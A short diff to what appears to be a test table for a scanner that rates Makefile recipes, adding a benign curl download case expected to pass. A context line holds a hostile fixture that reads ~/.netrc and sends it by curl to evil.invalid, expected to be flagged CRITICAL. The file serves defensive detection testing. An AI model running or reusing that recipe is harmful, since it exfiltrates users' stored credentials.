@@ -100,6 +100,12 @@ test.each([
   [
     'Makefile',
     '["make", "-C", "native"]',
+    `D = $(dir $(realpath $(lastword $(MAKEFILE_LIST))))\n${RECIPE('curl -o $(D)/a https://example.invalid/a')}`,
+    undefined,
+  ],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
     `D != cat ~/.netrc\n${RECIPE('curl https://evil.invalid/$(D)')}`,
     'CRITICAL',
   ],
